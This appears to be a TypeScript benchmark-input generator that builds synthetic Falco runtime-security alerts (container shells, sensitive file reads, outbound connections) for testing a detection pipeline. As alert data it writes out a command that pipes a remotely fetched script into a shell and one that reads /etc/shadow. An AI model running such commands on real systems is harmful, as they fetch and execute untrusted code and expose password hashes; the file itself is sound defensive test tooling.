/**
 * Falco-shaped benchmark inputs, generated (nothing copied from ../shared): the field sets and
 * sizes of real Falco JSON alerts (600–1800 bytes, 12–30 output fields, `evt.time` and other
 * nanosecond integers above 2^53 written as bare digits), deterministic from a seed.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { basename, dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Repository root (dist/bench/inputs.js → ../..; bench/inputs.ts under vitest → ..). */
export function repoRoot(): string {
  const here = dirname(fileURLToPath(import.meta.url));
  return basename(dirname(here)) === 'dist' ? resolve(here, '..', '..') : resolve(here, '..');
}

const T0 = 1_785_316_800_000_000_000n;

/** Small deterministic PRNG (mulberry32). */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
  return s;
}

function timeOfDay(ns: bigint): string {
  const d = new Date(Number(ns / 1_000_000n));
  return `${d.toISOString().slice(11, 19)}.${(ns % 1_000_000_000n).toString().padStart(9, '0')}`;
}

function isoNs(ns: bigint): string {
  return `${new Date(Number(ns / 1_000_000n)).toISOString().slice(0, 19)}.${(ns % 1_000_000_000n).toString().padStart(9, '0')}Z`;
}

/** JSON text of an object whose `__NS_<key>__` string placeholders become bare integers. */
function render(obj: unknown, ints: Record<string, bigint>): string {
  let s = JSON.stringify(obj);
  for (const [k, v] of Object.entries(ints)) s = s.replace(`"__NS_${k}__"`, v.toString());
  return s;
}

const IMAGES = ['docker.io/library/nginx', 'registry.example.com/shop/web', 'ghcr.io/acme/api', 'docker.io/bitnami/redis', 'quay.io/prometheus/node-exporter'];
const NAMESPACES = ['shop', 'payments', 'monitoring', 'kube-system', 'web'];

/** One Falco syscall alert (shell in container / sensitive file read / outbound connection). */
export function falcoAlert(i: number, r: () => number): string {
  const ns = T0 + BigInt(i) * 1_000_003n + BigInt(Math.floor(r() * 1000));
  const cid = hex(r, 12);
  const image = IMAGES[i % IMAGES.length] as string;
  const k8sNs = NAMESPACES[i % NAMESPACES.length] as string;
  const pod = `${image.split('/').pop() as string}-${hex(r, 10)}-${hex(r, 5)}`;
  const kind = i % 3;
  const common = {
    'container.id': cid,
    'container.image.repository': image,
    'container.image.tag': `1.${i % 30}.${i % 7}`,
    'container.name': `k8s_${pod}`,
    'container.start_ts': '__NS_start__',
    'evt.time': '__NS_time__',
    'k8s.ns.name': k8sNs,
    'k8s.pod.name': pod,
    'proc.exepath': '/usr/bin/bash',
    'proc.pid': 10_000 + (i % 50_000),
    'proc.ppid': 9_000 + (i % 50_000),
    'user.loginuid': -1,
    'user.name': 'root',
    'user.uid': 0,
  };
  const ints = { time: ns, start: ns - 3_600_000_000_000n };
  if (kind === 0) {
    const fields = { ...common, 'evt.type': 'execve', 'proc.cmdline': 'bash -c curl -s http://example.internal/install.sh | sh', 'proc.name': 'bash', 'proc.pname': 'runc', 'proc.tty': 34816, 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' };
    const output = `${timeOfDay(ns)}: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=${fields['proc.cmdline']} terminal=34816 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER container_id=${cid} container_name=k8s_${pod} container_image_repository=${image} k8s_pod_name=${pod} k8s_ns_name=${k8sNs})`;
    return render({ hostname: `node-${i % 8}`, output, output_fields: fields, priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'], time: isoNs(ns) }, ints);
  }
  if (kind === 1) {
    const fields = { ...common, 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'proc.cmdline': 'cat /etc/shadow', 'proc.name': 'cat', 'proc.pname': 'bash', 'proc.aname[2]': 'runc', 'proc.aname[3]': null, 'proc.aname[4]': null, 'evt.arg.flags': 'O_RDONLY' };
    const output = `${timeOfDay(ns)}: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=runc ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=0 container_id=${cid} container_name=k8s_${pod})`;
    return render({ hostname: `node-${i % 8}`, output, output_fields: fields, priority: 'Warning', rule: 'Read sensitive file untrusted', source: 'syscall', tags: ['T1555', 'filesystem', 'host', 'container', 'maturity_stable', 'mitre_credential_access'], time: isoNs(ns) }, ints);
  }
  const dip = `198.51.${100 + (i % 4)}.${1 + (i % 250)}`;
  const dport = [443, 8443, 53, 4444][i % 4] as number;
  return outboundAlert(ns, cid, image, k8sNs, pod, dip, dport, 30_000 + (i % 30_000));
}

/** A companion "outbound connection from container" signal alert (fd.sip / fd.sport / fd.name). */
export function outboundAlert(ns: bigint, cid: string, image: string, k8sNs: string, pod: string, dip: string, dport: number, sport: number): string {
  const sip = '10.42.0.17';
  const conn = `${sip}:${sport}->${dip}:${dport}`;
  const fields = {
    'container.id': cid,
    'container.image.repository': image,
    'container.image.tag': '1.4.2',
    'container.name': pod,
    'evt.res': 'EINPROGRESS',
    'evt.time': '__NS_time__',
    'evt.type': 'connect',
    'fd.cip': sip,
    'fd.cport': sport,
    'fd.l4proto': 'tcp',
    'fd.name': conn,
    'fd.sip': dip,
    'fd.sport': dport,
    'fd.type': 'ipv4',
    'k8s.ns.name': k8sNs,
    'k8s.pod.name': pod,
    'proc.aname[2]': 'containerd-shim',
    'proc.cmdline': 'curl -s https://updates.example.com/v1/check',
    'proc.exepath': '/usr/bin/curl',
    'proc.name': 'curl',
    'proc.pid': 31337,
    'proc.pname': 'sh',
    'user.name': 'root',
    'user.uid': 0,
  };
  const output = `${timeOfDay(ns)}: Informational Companion signal outbound connection | connection=${conn} fd_type=ipv4 fd_proto=tcp client_ip=${sip} client_port=${sport} server_ip=${dip} server_port=${dport} evt_type=connect evt_res=EINPROGRESS process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -s https://updates.example.com/v1/check user=root user_uid=0 container_id=${cid} container_name=${pod} image=${image} k8s_ns=${k8sNs} k8s_pod=${pod}`;
  return render(
    {
      hostname: 'node-1',
      output,
      output_fields: fields,
      priority: 'Informational',
      rule: 'Companion signal: outbound connection from container',
      source: 'syscall',
      tags: ['T1071', 'T1095', 'T1571', 'T1573', 'container', 'falco_companion', 'mitre_command_and_control', 'network'],
      time: isoNs(ns),
    },
    { time: ns },
  );
}

/** `n` Falco-shaped alerts as JSON lines (a third each: shell, sensitive read, outbound connection). */
export function falcoLines(n: number, seed = 1): string[] {
  const r = rng(seed);
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(falcoAlert(i, r));
  return out;
}

/**
 * Signal alerts for the detection stage: the shipped signal-alert fixture (one alert per
 * companion rule), repeated with varied containers, destinations, ports and increasing times.
 */
export function signalLines(n: number, seed = 2): string[] {
  const fixture = readFileSync(resolve(repoRoot(), 'test', 'fixtures', 'signal-alerts.jsonl'), 'utf8').split('\n').filter((l) => l.trim() !== '');
  const r = rng(seed);
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const tpl = fixture[i % fixture.length] as string;
    const ns = T0 + BigInt(i) * 10_000_019n;
    const cid = `3f2a9c${(i % 4096).toString(16).padStart(6, '0')}`;
    const dip = `198.51.${100 + Math.floor(r() * 4)}.${1 + Math.floor(r() * 250)}`;
    out.push(
      tpl
        .replace(/"evt\.time":\d+/, `"evt.time":${ns}`)
        .replace(/"time":"[^"]+"/, `"time":"${isoNs(ns)}"`)
        .replaceAll('3f2a9c1b7d4e', cid)
        .replaceAll('198.51.100.23', dip),
    );
  }
  return out;
}

/** The i-th flow of the cardinality flood: distinct (container, destination, port) for every i < 2^32. */
export function floodAlert(i: number): string {
  const ns = T0 + BigInt(i) * 1_000_003n;
  const cid = (0x100000000000 + (i % 50_000) * 7919).toString(16).slice(-12);
  const d = Math.floor(i / 50_000);
  const dip = `203.${(d >> 8) & 255}.${d & 255}.${1 + (i % 250)}`;
  const dport = 1024 + (i % 50_000);
  return outboundAlert(ns, cid, IMAGES[i % IMAGES.length] as string, NAMESPACES[i % NAMESPACES.length] as string, `app-${cid.slice(0, 6)}`, dip, dport, 30_000 + (i % 30_000));
}

/**
 * Request bodies exactly as Falco 0.40 formats this project's signal rules: the `Companion signal:`
 * lines of the real Falco recordings (../shared/falco-reference/recorded/*.jsonl, byte for byte,
 * in file order). Falls back to the project's own signal-alert fixture (generated in the same
 * format) where ../shared is absent; `source` says which.
 */
export function recordedSignalBodies(): { bodies: string[]; source: string } {
  const dir = resolve(repoRoot(), '..', 'shared', 'falco-reference', 'recorded');
  const bodies: string[] = [];
  if (existsSync(dir)) {
    for (const f of readdirSync(dir).filter((x) => x.endsWith('.jsonl')).sort()) {
      for (const l of readFileSync(resolve(dir, f), 'utf8').split('\n')) if (l.includes('"rule":"Companion signal:')) bodies.push(l);
    }
  }
  if (bodies.length > 0) return { bodies, source: `${bodies.length} Companion signal alerts recorded from Falco 0.40.0 (../shared/falco-reference/recorded)` };
  const fixture = readFileSync(resolve(repoRoot(), 'test', 'fixtures', 'signal-alerts.jsonl'), 'utf8').split('\n').filter((l) => l.trim() !== '');
  return { bodies: fixture, source: `${fixture.length} generated signal alerts (test/fixtures/signal-alerts.jsonl; ../shared absent)` };
}
